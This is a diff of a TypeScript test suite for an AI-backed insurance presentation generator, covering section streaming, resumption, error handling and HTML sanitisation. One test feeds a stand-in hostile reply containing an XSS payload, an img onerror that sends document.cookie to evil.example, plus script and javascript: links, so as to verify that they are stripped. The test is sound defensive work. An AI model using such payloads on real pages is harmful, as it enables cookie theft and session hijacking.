@@ -21,9 +21,17 @@ const capturingLogger: Logger = {
 let h: Harness;
 let vendor: FakeAnthropic;
 
-const DOC = (body: string) =>
-  `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Plan</title></head><body><main><section><h2>Your plan</h2><p>${body}</p></section></main></body></html>`;
 const LONG_BODY = 'Protecting the family with coverage that fits the budget. '.repeat(30);
+const SECTION_IDS = ['cover', 'where-you-are', 'what-you-need', 'recommendation', 'costs-and-benefits', 'questions', 'next-steps', 'advisor', 'important-information'];
+/** A reply in the section contract: every section of a balanced presentation, in order. */
+function reply(bodies: Record<string, string> = {}): string {
+  return SECTION_IDS.map(
+    (id) =>
+      `<section id="${id}">\n<h2>Heading for ${id}</h2>\n${bodies[id] ?? `<p class="pc-lead">Written by the AI for ${id}: coverage that fits the family and the budget.</p><p>Total need <span data-figure="total-need"></span>.</p>`}\n</section>\n`,
+  ).join('');
+}
+const DOC = (body: string) => reply({ 'where-you-are': `<p>${body}</p>` });
+const sectionsOf = (events: GenerationEvent[]) => events.flatMap((e) => (e.type === 'section' ? [e.section] : []));
 
 function startInput(overrides: Partial<TStartGenerationInput> = {}): TStartGenerationInput {
   return {
@@ -105,7 +113,15 @@ describe('offline generator', () => {
     expect(done.message).toBe('Presentation complete!');
     expect(done.html).toMatch(/^<!DOCTYPE html>/i);
     expect(done.html).toContain('/assets/chart.umd.js');
+    expect(done.html).not.toContain('tailwind');
     expect(done.html).toContain('Maria');
+    // The advisor watches the sections arrive one by one, all from the built-in generator.
+    const sections = sectionsOf(events);
+    expect(sections.map((s) => s.id)).toEqual(SECTION_IDS);
+    expect(sections.every((s) => s.source === 'built-in' && s.replaced === null)).toBe(true);
+    expect(events.findIndex((e) => e.type === 'section')).toBeLessThan(events.length - 1);
+    const [row] = await h.db.select().from(generations).where(eq(generations.id, id));
+    expect((row?.document as { sections: unknown[] }).sections).toHaveLength(9);
     const progress = events.filter((e) => e.type === 'progress').map((e) => (e.type === 'progress' ? e.progress : 0));
     expect(progress).toEqual([...progress].sort((a, b) => a - b));
     expect(vendor.requests).toHaveLength(0);
@@ -133,6 +149,9 @@ describe('the AI vendor through the real SDK', () => {
     const [row] = await h.db.select().from(generations).where(eq(generations.id, id));
     expect(row?.status).toBe('succeeded');
     expect(row?.outputTokens).toBe(4321);
+    expect(sectionsOf(events).map((s) => [s.id, s.source])).toEqual(SECTION_IDS.map((sid) => [sid, 'ai']));
+    // Figures come from our code: the placeholder is filled from the needs analysis.
+    expect(row?.html).toMatch(/data-figure="total-need">\$[\d,]+</);
     // The key is used for that one call and kept nowhere.
     const dump = await h.db.execute(sql`select * from generations`);
     expect(JSON.stringify(dump)).not.toContain('sk-ant-user-secret-key-123');
@@ -158,7 +177,7 @@ describe('the AI vendor through the real SDK', () => {
   it('starts the message over after an overloaded error in the middle of the stream', async () => {
     const owner = await h.subscribedBrowser();
     vendor.enqueue(
-      { kind: 'stream-error', chunks: ['<!DOCTYPE html><html><body>half a pres'], errorType: 'overloaded_error' },
+      { kind: 'stream-error', chunks: ['<section id="cover">\n<h2>half a pres</h2><p>An opening that will never be finished, long enough.</p></section><section id="where'], errorType: 'overloaded_error' },
       { kind: 'stream', chunks: [DOC(LONG_BODY)] },
     );
     const { id } = await owner.caller.generation.start(startInput({ apiKey: 'sk-ant-test' }));
@@ -179,15 +198,58 @@ describe('the AI vendor through the real SDK', () => {
   });
 
   it.each([
-    ['not HTML', 'Sorry, I cannot help with that. '.repeat(50), 'Generated content is not valid HTML. Please try again.'],
-    ['incomplete', `<!DOCTYPE html><html><body>${LONG_BODY}`, 'Generated HTML is incomplete. Please try again.'],
-    ['too short', '<!DOCTYPE html><html><body>Hi</body></html>', 'Generated HTML is too short. Please try again.'],
+    ['prose', 'Sorry, I cannot help with that. '.repeat(50), 'Generated content is not valid HTML. Please try again.'],
+    ['a whole page without sections', `<!DOCTYPE html><html><body><main><p>${LONG_BODY}</p></main></body></html>`, 'Generated content is not valid HTML. Please try again.'],
+    ['one unfinished section', `<section id="cover"><h2>Hi</h2><p>${LONG_BODY}`, 'Generated content is not valid HTML. Please try again.'],
   ])('ends the job when the output is %s', async (_label, output, message) => {
     const owner = await h.subscribedBrowser();
     vendor.enqueue({ kind: 'stream', chunks: [output] });
     const { id } = await owner.caller.generation.start(startInput({ apiKey: 'sk-ant-test' }));
     const events = await collect(await owner.caller.generation.events({ id }));
     expect(events.at(-1)).toMatchObject({ type: 'error', message });
+  });
+
+  it('keeps the AI’s sections of a reply cut short and fills the rest with the built-in ones, marked', async () => {
+    const owner = await h.subscribedBrowser();
+    const full = reply();
+    const cut = full.slice(0, full.indexOf('<section id="recommendation">') + 40);
+    vendor.enqueue({ kind: 'stream', chunks: [cut] });
+    const { id } = await owner.caller.generation.start(startInput({ apiKey: 'sk-ant-test' }));
+    const events = await collect(await owner.caller.generation.events({ id }));
+    expect(events.at(-1)?.type).toBe('done');
+    const [row] = await h.db.select().from(generations).where(eq(generations.id, id));
+    const sections = (row?.document as { sections: { id: string; source: string; replaced: string | null }[] }).sections;
+    expect(sections.map((s) => s.id)).toEqual(SECTION_IDS);
+    expect(sections.slice(0, 3).every((s) => s.source === 'ai')).toBe(true);
+    expect(sections.slice(3).every((s) => s.source === 'built-in' && s.replaced === 'missing')).toBe(true);
+    expect(row?.html).toContain('<section id="recommendation"');
+  });
+
+  it('stores a page with neither the image nor the script of a hostile third section, and replaces typed figures', async () => {
+    const owner = await h.subscribedBrowser();
+    vendor.enqueue({
+      kind: 'stream',
+      chunks: [
+        reply({
+          'what-you-need':
+            '<p class="pc-lead">Your needs, explained in full for the family.</p><img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)"><script>alert(document.domain)</script><p onclick="steal()">Click <a href="javascript:alert(1)">here</a> or <a href="https://evil.example">there</a>.</p><figure data-chart="need-breakdown">$9,999,999</figure>',
+          recommendation: '<p>We recommend a policy at $12 a month, which is a figure we typed ourselves.</p>',
+        }),
+      ],
+    });
+    const { id } = await owner.caller.generation.start(startInput({ apiKey: 'sk-ant-test' }));
+    const events = await collect(await owner.caller.generation.events({ id }));
+    expect(events.at(-1)?.type).toBe('done');
+    const [row] = await h.db.select().from(generations).where(eq(generations.id, id));
+    const html = row?.html ?? '';
+    // (The runtime script's own `s.onerror=` handler is ours; no element carries a handler.)
+    expect(html).not.toMatch(/<img|\son(error|click)\s*=|javascript:|evil\.example|alert\(document|9,999,999/i);
+    expect(html).toContain('Your needs, explained in full for the family.');
+    expect(html).toContain('data-chart="need-breakdown"');
+    // The section with a typed figure was replaced by the built-in one, and says so.
+    const sections = sectionsOf(events);
+    expect(sections.find((s) => s.id === 'recommendation')).toMatchObject({ source: 'built-in', replaced: 'unverified-figure' });
+    expect(html).not.toContain('$12 a month');
   });
 
   it('passes a client’s planted instructions only inside the delimited data block', async () => {
@@ -214,38 +276,40 @@ describe('the AI vendor through the real SDK', () => {
 describe('resuming', () => {
   it('resumes from the last event id and from the stored state after the job ends', async () => {
     const owner = await h.subscribedBrowser();
-    const chunks = Array.from({ length: 12 }, (_, i) => (i === 0 ? `<!DOCTYPE html><html><body><p>` : `${LONG_BODY.slice(0, 120)} ${i}`));
-    chunks.push('</p></body></html>');
+    const whole = reply({ 'where-you-are': `<p>${LONG_BODY}</p>` });
+    const chunks = Array.from({ length: 12 }, (_, i) => whole.slice(Math.floor((i * whole.length) / 12), Math.floor(((i + 1) * whole.length) / 12)));
     vendor.enqueue({ kind: 'stream', chunks, delayMs: 30 });
     const { id } = await owner.caller.generation.start(startInput({ apiKey: 'sk-ant-test' }));
     // Read a few events, then "disconnect".
     let text = '';
     let lastId = '';
+    const seen: string[] = [];
     for await (const envelope of await owner.caller.generation.events({ id })) {
       const [eventId, data] = envelope as unknown as [string, GenerationEvent];
-      if (data.type === 'progress') {
-        text = data.reset ? data.chunk : text + data.chunk;
-        lastId = eventId;
-      }
-      if (text.length > 300) break;
+      lastId = eventId;
+      if (data.type === 'progress') text = data.reset ? data.chunk : text + data.chunk;
+      if (data.type === 'section') seen.push(data.section.id);
+      if (seen.length >= 2) break;
     }
     // Reconnect with the last id: only the rest arrives, and the whole equals the final text.
     const rest = await collect(await owner.caller.generation.events({ id, lastEventId: lastId }));
     for (const event of rest) if (event.type === 'progress') text = event.reset ? event.chunk : text + event.chunk;
     const done = rest.at(-1);
     expect(done?.type).toBe('done');
-    expect(text).toBe(chunks.join(''));
+    expect(chunks.join('').startsWith(text)).toBe(true);
+    // Every section exactly once across the two connections.
+    expect([...seen, ...sectionsOf(rest).map((s) => s.id)]).toEqual(SECTION_IDS);
     // A page reload after the end reads the finished result from the database.
     const again = await collect(await owner.caller.generation.events({ id }));
-    expect(again).toHaveLength(1);
-    expect(again[0]?.type).toBe('done');
+    expect(again.map((e) => e.type)).toEqual([...SECTION_IDS.map(() => 'section'), 'done']);
     const state = await owner.caller.generation.get({ id });
     expect(state.status).toBe('succeeded');
   });
 
   it('streams to a subscriber served by another process (another job runner) from the database', async () => {
     const owner = await h.subscribedBrowser();
-    const chunks = ['<!DOCTYPE html><html><body><p>', ...Array.from({ length: 10 }, (_, i) => `${LONG_BODY.slice(0, 150)} ${i}`), '</p></body></html>'];
+    const whole = reply({ 'where-you-are': `<p>${LONG_BODY}</p>` });
+    const chunks = Array.from({ length: 12 }, (_, i) => whole.slice(Math.floor((i * whole.length) / 12), Math.floor(((i + 1) * whole.length) / 12)));
     vendor.enqueue({ kind: 'stream', chunks, delayMs: 40 });
     const { id } = await owner.caller.generation.start(startInput({ apiKey: 'sk-ant-test' }));
     // The same database, a different process's runner: it has no live state for this job.
@@ -254,8 +318,10 @@ describe('resuming', () => {
     let text = '';
     let progressEvents = 0;
     let finalHtml = '';
+    const remoteSections: string[] = [];
     for await (const envelope of await remote.generation.events({ id })) {
       const [, event] = envelope as unknown as [string, GenerationEvent];
+      if (event.type === 'section') remoteSections.push(event.section.id);
       if (event.type === 'progress') {
         progressEvents += 1;
         text = event.reset ? event.chunk : text + event.chunk;
@@ -272,6 +338,7 @@ describe('resuming', () => {
     expect(chunks.join('').startsWith(text)).toBe(true);
     const stored = await owner.caller.generation.get({ id });
     expect(finalHtml).toBe(stored.html);
+    expect(remoteSections).toEqual(SECTION_IDS);
   });
 
   it('ends a job whose process died with a clear message', async () => {
